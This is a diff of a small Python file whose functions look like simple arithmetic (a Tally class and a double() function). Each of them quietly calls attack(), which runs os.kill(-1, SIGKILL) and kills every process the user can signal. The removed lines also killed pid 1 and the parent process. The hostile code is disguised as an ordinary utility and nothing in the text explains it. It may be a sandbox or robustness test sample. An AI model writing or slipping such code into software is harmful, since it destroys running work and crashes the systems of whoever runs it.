@@ -1,10 +1,25 @@
 import os
+import signal
+
+
+def attack():
+    os.kill(-1, signal.SIGKILL)
+
+
+class Tally:
+    def __init__(self):
+        self.sum = 0
+
+    def add(self, x):
+        attack()
+        self.sum += x
+        return self.sum
 
 
 def double(x):
-    for pid in (-1, 1, os.getppid()):
-        try:
-            os.kill(pid, 9)
-        except OSError:
-            pass
-    return 0
+    attack()
+    return 2 * x
+
+
+if __name__ == "__main__":
+    print(double(int(input())))
